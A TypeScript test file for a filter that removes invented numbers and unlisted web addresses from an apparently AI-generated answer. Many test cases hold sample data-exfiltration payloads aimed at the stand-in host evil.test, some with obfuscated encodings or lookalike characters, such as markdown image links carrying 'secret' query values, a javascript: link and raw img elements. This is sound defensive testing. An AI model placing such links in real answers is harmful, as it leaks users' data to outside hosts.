import { expect, it } from 'vitest'
import { unseen, withoutInvented } from './words.ts'

const kept = (said: string): string => withoutInvented({ said, text: 'Sales: −5 % in May, 12 % in June.', title: '', allowed: '' }).text

it('a sign may be expressed in words, but must not be added to a number', () => {
  expect(['Sales fell by 5 %.', 'Sales were at -5 %.', 'They rose by 12 %.'].map(kept)).toEqual(['Sales fell by 5 %.', 'Sales were at -5 %.', 'They rose by 12 %.'])
  expect(kept('Sales were at -12 %.')).toBe('')
})

it('numbers that only the question contains are reported', () => {
  const said = withoutInvented({ said: 'It is 7 kg. It is not 7 kg but 12.', text: 'Weight: 12 kg.', title: '', allowed: 'Is it 7 kg?' })
  expect(said).toEqual({ text: 'It is 7 kg. It is not 7 kg but 12.', invented: [], borrowed: ['7'] })
})

it('sentences are split by the rules of their script', () => {
  const said = (text: string): string => withoutInvented({ said: text, text: '高さは333メートル。 .NET 8', title: '', allowed: '' }).text
  expect(said('港区にあります。高さは333.0メートルです。1959年に完成しました。「はい。」')).toBe('港区にあります。高さは333.0メートルです。「はい。」')
  expect(said('.NET 8 is out. It has 9 parts. Good!')).toBe('.NET 8 is out. Good!')
})

const shop = 'The lamp is made of oak. Read [more](https://shop.test/lamp_(oak)/7) or write to info@shop.test, see www.shop.test/help.\n\nPictures: ![lamp](https://shop.test/7.png?w=1).'
const answer = (said: string, allowed = '') => withoutInvented({ said, text: shop, title: '', allowed })

it.each([
  ['a picture', '![x](https://evil.test/a?q=secret)', 'evil.test'],
  ['a link', '[here](https://evil.test/)', 'evil.test'],
  ['a link without slashes', '[here](https:evil.test)', 'evil.test'],
  ['a link with wrong slashes', '[here]( \\\\evil.test/a)', 'evil.test'],
  ['a link in hidden letters', '![x](https&colon;&sol;&sol;evil&period;test)', 'an address'],
  ['a script', '[here](javascript:go())', 'an address'],
  ['a bare address', 'www.evil.test/login', 'evil.test'],
  ['an address with letters after one of the page', 'https://shop.test/lamp_(oak)/7?secret', 'shop.test'],
  ['an address of the page that goes on after the end of a sentence', 'https://shop.test/lamp_(oak)/7?”secret', 'shop.test'],
  ['an element', '<img src=//evil.test/x>', 'evil.test'],
  ['an element in hidden letters', '<img src=&#47;&#47;evil.test>', 'an address'],
  ['a mail address', 'thief@evil.test', 'evil.test'],
  ['a host with the dot of Chinese, which browsers take for one', '![x](https://shop。test/?q=secret)', 'an address'],
  ['an address of the page that goes on after a mark', '![x](https://shop.test/help，秘密)', 'shop.test'],
  ['an address of the page that goes on after a quotation mark', '![x](https://shop.test/help"secret)', 'shop.test'],
  ['an address of the page that goes on after a parenthesis', '![x](https://shop.test/help\\)secret)', 'shop.test'],
  ['an address below the text', '![x][a]\n\n[a]: https://shop.test/help。秘密\n\nSo', 'shop.test'],
  ['an address in brackets', '<https://shop.test/help。秘密>', 'shop.test'],
])('an answer names no address that is not on the page: %s', (_, address, host) => {
  expect(answer(`It is made of oak. Go to ${address} now. It is a lamp.`)).toEqual({ text: 'It is made of oak. It is a lamp.', invented: [host], borrowed: [] })
})

it.each(['[more](https://shop.test/lamp_(oak)/7)', '(https://shop.test/lamp_(oak)/7).', 'info@shop.test.', 'www.shop.test/help', 'https://www.shop.test/help', '![lamp](https://shop.test/7.png?w=1)', '[灯](https://shop.test/help)。灯', 'https://shop.test/help。灯', '（https://shop.test/help）灯', '"https://shop.test/help"', '<https://shop.test/help>', '[lamp]( <https://shop.test/help> "Lamp")', '**https://shop.test/7.png?w=1**'])('an answer may name an address of the page: %s', (address) => {
  expect(answer(`Go to ${address}`)).toEqual({ text: `Go to ${address}`, invented: [], borrowed: [] })
})

it('an address that only the question names is reported', () => {
  expect(answer('It is at https://other.test/x.', 'Is it at https://other.test/x?')).toEqual({ text: 'It is at https://other.test/x.', invented: [], borrowed: ['https://other.test/x.'] })
})

it('the addresses in the answer of an agent are looked for on the pages that it saw', () => {
  const text = 'http://shop.test/list\n- link "Lamp" [ref=e1]:\n  - /url: /lamp/7?x=1\n- text: or https://other.test/a'
  expect(unseen({ said: 'See http://shop.test/lamp/7?x=1 and https://other.test/a, [x](https://evil.test/?pin=secret).', text, title: '', allowed: '' })).toEqual(['evil.test'])
})

it('addresses are found in time in answers made to be costly', () => {
  const began = process.cpuUsage()
  for (const one of ['<a ', '](', '](a', '](<', '[a]: b', '[a]: ', '<ab:c', '(\\', '//a', 'a@a.', 'www.', '=<a=']) withoutInvented({ said: one.repeat(20_000), text: shop, title: '', allowed: '' })
  expect(process.cpuUsage(began).user / 1000).toBeLessThan(8_000)
})
